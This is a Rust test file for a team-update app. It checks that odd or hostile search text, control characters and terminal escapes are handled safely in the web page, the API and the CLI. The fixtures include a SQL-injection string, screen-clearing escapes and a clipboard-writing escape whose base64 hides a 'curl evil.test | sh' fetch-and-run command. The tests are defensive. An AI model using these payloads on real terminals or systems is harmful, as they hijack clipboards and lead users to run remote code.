//! What an outside security test tried with text (issue 29, the small ones), on SQLite and
//! PostgreSQL: search input that is not a search (NUL, control characters, full-text syntax,
//! thousands of exclusions, 10,000 characters) never answers 500 on the page, the API or the
//! CLI, and a bound beyond is a 422 (exit 2) that names it; control characters never reach a
//! stored update, and `<mark>` comes from positions, not from characters in the text; a
//! stranger's escape sequences reach the operator's terminal as escapes.

use reqwest::{Method, StatusCode};
use serde_json::json;
use tidings::store::InboundStatus;

use crate::both;
use crate::cli::run as cli;
use crate::helpers::*;
use crate::web::Server;

fn enc(s: &str) -> String {
    url::form_urlencoded::byte_serialize(s.as_bytes()).collect()
}

/// Searches that are fine, however odd: each answers 200 (or exit 0).
fn odd_searches() -> Vec<String> {
    let mut v: Vec<String> = [
        "imp\0orter",
        "importer\u{1b}[2J\u{7}",
        "\u{2}importer\u{3}",
        "\t\r\nimporter\u{7f}\u{9b}",
        "NEAR(",
        "NEAR(importer retry, 2)",
        "\"",
        "\"\"",
        "\"unclosed importer",
        "*",
        "importer*",
        "-",
        "--",
        "- -importer",
        "OR",
        "importer OR retry",
        "AND NOT",
        "^",
        "^importer",
        ":",
        "body:importer",
        "col : importer",
        "(",
        ")",
        "(importer) AND (retry",
        "{importer retry}",
        "importer:*",
        "!importer & retry | x <-> y",
        "\\",
        "'; DROP TABLE updates; --",
        "%_",
        "\u{0}",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    v.push(vec!["importer"; 32].join(" "));
    v.push(format!("importer {}", vec!["-zz"; 16].join(" ")));
    v.push("i".repeat(500));
    v
}

/// Searches beyond a bound, with a word the answer must hold.
fn searches_beyond() -> Vec<(String, &'static str)> {
    vec![
        ("x".repeat(5_000), "5000 characters"),
        (
            format!(
                "importer {}",
                (0..300)
                    .map(|i| format!("-w{i}"))
                    .collect::<Vec<_>>()
                    .join(" ")
            ),
            "at most 500",
        ),
        (
            format!("importer {}", vec!["-zz"; 17].join(" ")),
            "excludes 17",
        ),
        (vec!["w"; 33].join(" "), "33 words"),
        ("i".repeat(501), "501 characters"),
    ]
}

async fn seed(app: &TestApp) -> i64 {
    let ann = app.member("ann@example.test", "Ann", "Europe/Berlin").await;
    app.ctx
        .store
        .upsert_update(
            ann,
            "2026-12-01".parse().unwrap(),
            "Done: the importer retries\nNext: the exporter",
            &[],
            "api",
            None,
            false,
            1_700_000_000,
        )
        .await
        .unwrap();
    ann
}

both!(
    search_never_answers_500_on_the_page_the_api_or_the_cli,
    |app| {
        let ann = seed(&app).await;
        let srv = Server::start(&app, |_| {}).await;
        let t = srv.token_for(ann).await;
        let cookie = srv.signed_in(ann).await;
        let page = |q: String| {
            let r = srv
                .http
                .get(srv.url(&format!("/log/core?q={}", enc(&q))))
                .header("Cookie", cookie.clone())
                .send();
            async move {
                let r = r.await.unwrap();
                (r.status(), r.text().await.unwrap())
            }
        };
        let dir = app.dir.path();
        for q in odd_searches() {
            let (s, v) = srv
                .get(
                    &format!("/api/v1/teams/core/updates?q={}", enc(&q)),
                    Some(&t),
                )
                .await;
            assert_eq!(s, StatusCode::OK, "API {q:?}: {v}");
            let (s, body) = page(q.clone()).await;
            assert_eq!(s, StatusCode::OK, "page {q:?}: {body}");
            // An argument cannot hold NUL; every other search goes through the CLI too.
            if !q.contains('\0') {
                // `--search=Q`: a search may start with `-` (or be `--`).
                let arg = format!("--search={q}");
                let o = cli(
                    dir,
                    &app.db_url,
                    &["export", "--team", "core", &arg, "--format", "json"],
                );
                assert!(
                    o.status.success(),
                    "CLI {q:?}: {}",
                    String::from_utf8_lossy(&o.stderr)
                );
            }
        }
        // NUL and other control characters are dropped, not refused: the word is whole again.
        for q in ["imp\0orter", "imp\u{7}ort\u{1b}er"] {
            let (_, v) = srv
                .get(
                    &format!("/api/v1/teams/core/updates?q={}", enc(q)),
                    Some(&t),
                )
                .await;
            assert_eq!(v["updates"].as_array().map(Vec::len), Some(1), "{q:?}: {v}");
        }
        // 10,000 characters: longer than a request target may be (414 before any route), and
        // beyond the search's bound for the CLI.
        let long = "x".repeat(10_000);
        let (s, v) = srv
            .get(&format!("/api/v1/teams/core/updates?q={long}"), Some(&t))
            .await;
        assert_eq!(s, StatusCode::URI_TOO_LONG, "{v}");
        assert_eq!(page(long.clone()).await.0, StatusCode::URI_TOO_LONG);
        let arg = format!("--search={long}");
        let o = cli(
            dir,
            &app.db_url,
            &["export", "--team", "core", &arg, "--format", "md"],
        );
        assert_eq!(o.status.code(), Some(2));
        assert!(String::from_utf8_lossy(&o.stderr).contains("10000 characters"));
        for (q, says) in searches_beyond() {
            let (s, v) = srv
                .get(
                    &format!("/api/v1/teams/core/updates?q={}", enc(&q)),
                    Some(&t),
                )
                .await;
            assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "API {says}: {v}");
            assert_eq!(v["error"]["code"], "invalid", "{v}");
            let msg = v["error"]["message"].as_str().unwrap_or_default();
            assert!(
                msg.starts_with("q: ") && msg.contains(says),
                "{says}: {msg}"
            );
            let (s, body) = page(q.clone()).await;
            assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "page {says}");
            assert!(
                body.contains("Not a valid search") && body.contains(says),
                "page {says}: {body}"
            );
            let arg = format!("--search={q}");
            let o = cli(
                dir,
                &app.db_url,
                &["export", "--team", "core", &arg, "--format", "csv"],
            );
            let err = String::from_utf8_lossy(&o.stderr);
            assert_eq!(o.status.code(), Some(2), "CLI {says}: {err}");
            assert!(
                err.contains("--search") && err.contains(says),
                "{says}: {err}"
            );
        }
    }
);

/// Whether `html` holds its `<mark>`s one level deep and balanced.
fn marks_balanced(html: &str) -> bool {
    let mut depth = 0i32;
    let mut rest = html;
    while let Some(i) = rest
        .find("<mark>")
        .into_iter()
        .chain(rest.find("</mark>"))
        .min()
    {
        if rest[i..].starts_with("<mark>") {
            depth += 1;
            rest = &rest[i + 6..];
        } else {
            depth -= 1;
            rest = &rest[i + 7..];
        }
        if !(0..=1).contains(&depth) {
            return false;
        }
    }
    depth == 0
}

both!(
    control_characters_never_reach_a_stored_update_and_marks_come_from_positions,
    |app| {
        let ann = app.member("ann@example.test", "Ann", "Europe/Berlin").await;
        // By email: a reply to Monday's request (before the server plans with its own clock).
        app.tick(at("2026-03-09T00:00:00Z")).await;
        app.tick(at("2026-03-09T15:30:00Z")).await;
        let (rt, mid) =
            reply_headers(&app.read_sent(&format!("request_{ann}_2026-03-09.tidings.eml")));
        let raw = gmail_reply(
            "ann@example.test",
            &rt,
            &mid,
            "ctl@mail.test",
            &format!(
                "Fixed the \u{1b}]52;c;aGk=\u{7}importer \u{2}exporter\u{3} {}",
                "and then some more words of the update, ".repeat(8)
            ),
        );
        let r = app.deliver("ctl", &raw, at("2026-03-09T17:00:00Z")).await;
        let why = app
            .ctx
            .store
            .inbound_with_status(InboundStatus::Quarantined, 1)
            .await
            .unwrap();
        assert_eq!(r.accepted, 1, "{r:?} {:?}", why.first().map(|w| &w.reason));
        let stored = app
            .ctx
            .store
            .update_for(ann, "2026-03-09".parse().unwrap())
            .await
            .unwrap()
            .unwrap();
        assert!(
            !stored
                .body
                .chars()
                .any(|c| c.is_control() && c != '\n' && c != '\t'),
            "{:?}",
            stored.body
        );
        assert!(
            stored
                .body
                .contains("Fixed the ]52;c;aGk=importer exporter"),
            "{:?}",
            stored.body
        );
        let srv = Server::start(&app, |_| {}).await;
        let t = srv.token_for(ann).await;
        // By the API: every control character but tab and line feed goes; CRLF is LF.
        let text = "Done: \u{2}importer\u{3} fixed \u{3}\u{2}\u{3}\u{1b}[2J twice\r\nNext: the importer\tagain\u{7}\u{9b}";
        let (s, v) = srv
            .send(
                Method::POST,
                "/api/v1/updates",
                Some(&t),
                json!({"text": text}),
            )
            .await;
        assert_eq!(s, StatusCode::CREATED, "{v}");
        let date = v["update"]["date"].as_str().unwrap().parse().unwrap();
        let stored = app.ctx.store.update_for(ann, date).await.unwrap().unwrap();
        assert_eq!(
            stored.body,
            "Done: importer fixed [2J twice\nNext: the importer\tagain"
        );
        // An update stored before this rule, with the old marker characters in its text.
        sqlx::query("UPDATE updates SET body = $1 WHERE id = $2")
            .bind("Old: \u{2}\u{2}importer\u{3} and \u{3}importer\u{2} and </mark><mark>importer")
            .bind(stored.id)
            .execute(app.ctx.store.pool())
            .await
            .unwrap();
        let (s, v) = srv
            .get("/api/v1/teams/core/updates?q=importer", Some(&t))
            .await;
        assert_eq!(s, StatusCode::OK, "{v}");
        let snippets: Vec<&str> = v["updates"]
            .as_array()
            .unwrap()
            .iter()
            .map(|u| u["snippet_html"].as_str().unwrap())
            .collect();
        assert_eq!(snippets.len(), 2, "{v}");
        for s in &snippets {
            assert!(marks_balanced(s), "{s}");
            assert!(!s.contains(['\u{2}', '\u{3}']), "{s:?}");
        }
        let old = snippets
            .iter()
            .find(|s| s.contains("Old:"))
            .expect("the old update");
        // Each match marked once, the text's own "</mark><mark>" shown as text.
        assert_eq!(old.matches("<mark>importer</mark>").count(), 3, "{old}");
        assert!(old.contains("&lt;/mark&gt;&lt;mark&gt;"), "{old}");
        // The page marks the same way, each word where it is in its update's sections (the
        // sections as parsed when written: one in the first update, two in the second).
        let cookie = srv.signed_in(ann).await;
        let page = srv
            .http
            .get(srv.url("/log/core?q=importer"))
            .header("Cookie", cookie)
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(marks_balanced(&page), "{page}");
        assert_eq!(page.matches("<mark>").count(), 3, "{page}");
    }
);

/// The quarantined message from a stranger, with terminal escapes in its headers and body.
fn hostile_message() -> Vec<u8> {
    b"From: Mallory \x1b[31m<mallory@evil.test>\r\nTo: updates@example.test\r\nSubject: \x1b]0;pwned\x07hello\r\nMessage-ID: <esc@evil.test>\r\n\r\nClear: \x1b[2J\x1b[H\r\nClipboard: \x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07\r\nCSI: \xc2\x9b6n end\r\n"
        .to_vec()
}

both!(
    a_strangers_terminal_escapes_reach_the_operator_as_escapes,
    |app| {
        app.member("ann@example.test", "Ann", "Europe/Berlin").await;
        let r = app
            .deliver("esc", &hostile_message(), at("2026-03-09T12:00:00Z"))
            .await;
        assert_eq!(r.quarantined, 1, "{r:?}");
        let rows = app
            .ctx
            .store
            .inbound_with_status(InboundStatus::Quarantined, 10)
            .await
            .unwrap();
        let id = rows[0].id.to_string();
        let dir = app.dir.path();
        for args in [
            vec!["inbox", "quarantine", "show", id.as_str()],
            vec!["inbox", "quarantine", "list"],
        ] {
            let o = cli(dir, &app.db_url, &args);
            assert!(o.status.success(), "{args:?}");
            let out = String::from_utf8_lossy(&o.stdout).to_string();
            assert!(
                !out.chars()
                    .any(|c| c.is_control() && c != '\n' && c != '\t'),
                "{args:?} printed a control character: {out:?}"
            );
            if args[2] == "show" {
                for shown in [
                    r"Clear: \x1b[2J\x1b[H",
                    r"\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07",
                    r"CSI: \u{9b}6n end",
                ] {
                    assert!(out.contains(shown), "{shown} in {out}");
                }
            }
        }
    }
);

both!(
    an_export_on_a_terminal_shows_control_characters_as_escapes,
    |app| {
        let ann = app.member("ann@example.test", "Ann", "Europe/Berlin").await;
        app.ctx
            .store
            .upsert_update(
                ann,
                "2026-12-01".parse().unwrap(),
                "Done: x",
                &[],
                "api",
                None,
                false,
                1,
            )
            .await
            .unwrap();
        // Stored before control characters were dropped (sections read again from the body).
        sqlx::query("UPDATE updates SET body = $1, sections = 'stored before'")
            .bind("Done: \u{1b}[2J\u{1b}]52;c;aGk=\u{7}x")
            .execute(app.ctx.store.pool())
            .await
            .unwrap();
        let bin = env!("CARGO_BIN_EXE_tidings");
        for format in ["md", "csv"] {
            // `script` runs the export with a terminal as its stdout.
            let o = std::process::Command::new("script")
                .args(["-qec"])
                // --quiet: no progress spinner, whose own escapes are not the member's text.
                .arg(format!(
                    "{bin} --quiet export --team core --format {format}"
                ))
                .arg("/dev/null")
                .current_dir(app.dir.path())
                .env_remove("TIDINGS_CONFIG")
                .env("TIDINGS_DATABASE__URL", &app.db_url)
                .env("TIDINGS_LOG", "warn")
                .output()
                .expect("script runs");
            let out = String::from_utf8_lossy(&o.stdout);
            assert!(o.status.success(), "{format}: {out}");
            assert!(
                out.contains(r"\x1b[2J\x1b]52;c;aGk=\x07x"),
                "{format}: {out:?}"
            );
            assert!(
                !out.contains('\u{1b}') && !out.contains('\u{7}'),
                "{format}: {out:?}"
            );
            // Piped, the export is the stored text.
            let o = cli(
                app.dir.path(),
                &app.db_url,
                &["export", "--team", "core", "--format", format],
            );
            assert!(
                String::from_utf8_lossy(&o.stdout).contains("\u{1b}[2J"),
                "{format}"
            );
        }
    }
);
